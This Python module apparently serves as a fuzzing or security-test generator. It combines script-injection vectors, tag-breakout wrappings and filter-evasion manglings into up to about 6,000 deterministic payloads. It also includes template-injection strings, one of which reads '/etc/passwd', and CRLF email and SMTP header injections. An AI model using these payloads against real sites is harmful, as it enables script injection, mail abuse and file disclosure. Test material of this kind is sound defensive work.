"""Hostile words, as many as wanted: vectors known to run, in wrappings known to break out, mangled as filters are passed.

Each runs `hit()` if it runs at all. The same number gives the same words.
"""

from __future__ import annotations

from itertools import islice, product

VECTORS = [
    "<script>hit()</script>",
    "<script src=data:,hit()></script>",
    "<img src=x onerror=hit()>",
    "<img src=x:x onerror=hit() />",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<body onload=hit()>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe src=javascript:parent.hit()></iframe>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=hit()&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<form><button formaction=javascript:hit()>x</button></form>",
    "<input autofocus onfocus=hit()>",
    "<details open ontoggle=hit()>",
    "<video><source onerror=hit()></video>",
    "<audio src=x onerror=hit()>",
    "<object data=javascript:hit()>",
    "<embed src=javascript:hit()>",
    "<a href=javascript:hit()>x</a>",
    "<base href=javascript:hit()//>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    "<link rel=stylesheet href=data:,*{x:expression(hit())}>",
    "<style>@import 'javascript:hit()';</style>",
    "<template><script>hit()</script></template>",
    "<marquee onstart=hit()>x</marquee>",
    "<x contenteditable onblur=hit()>x",
    "<table background=javascript:hit()>",
    "javascript:hit()//",
    "data:text/html,<script>hit()</script>",
    "{{constructor.constructor('hit()')()}}",
    "${hit()}",
    "{{ 7*7 }}{% include '/etc/passwd' %}",
    "\r\nBcc: victim@example.org",
    "\r\n\r\n<script>hit()</script>",
    "\r\nContent-Type: text/html\r\n\r\n<script>hit()</script>",
    "=?utf-8?q?=0D=0ABcc:_victim@example.org?=",
    "=?utf-8?b?DQpCY2M6IHZAZS5vcmc=?=",
    "\r\n.\r\nMAIL FROM:<x@example.org>\r\n",
]
WRAPPINGS = [
    "{}",
    '">{}',
    "'>{}",
    "-->{}",
    "]]>{}",
    "</title>{}",
    "</textarea>{}",
    "</style>{}",
    "</script>{}",
    '" onmouseover="hit()" x="{}',
    "' onfocus='hit()' autofocus x='{}",
    "` {}",
    "\u202e{}\u202c",
    "<!--{}-->",
    "</p></div></td></table>{}",
    "&quot;&gt;{}",
]
MANGLINGS = [
    lambda words: words,
    str.upper,
    lambda words: words.replace("<", "<\x0b").replace(" on", "\x0con"),
    lambda words: words.replace("<", "&lt;").replace(">", "&gt;"),
    lambda words: words.replace("<", "&#60").replace("(", "&#40;"),
    lambda words: words.replace("<", "\u02c2").replace(">", "\uff1e"),
    lambda words: words.replace("script", "scr\u200bipt").replace("javascript", "java\tscript"),
    lambda words: f"{words}{words}",
    lambda words: words.replace("=", "\n=\n"),
    lambda words: words.replace("<", "<<").replace(">", ">>"),
]


def payloads(many: int) -> list[str]:
    """So many different ones; 6,000 are the most there are. The step through them is a prime, so few are of all kinds."""
    whole = list(dict.fromkeys(mangle(wrap.format(v) if "{}" in wrap else v) for wrap, v, mangle in _all()))
    step = next(prime for prime in (1_009, 1_013, 1_019) if len(whole) % prime)
    return list(islice((whole[(number * step) % len(whole)] for number in range(len(whole))), many))


def _all() -> product:  # type: ignore[type-arg]
    return product(WRAPPINGS, VECTORS, MANGLINGS)
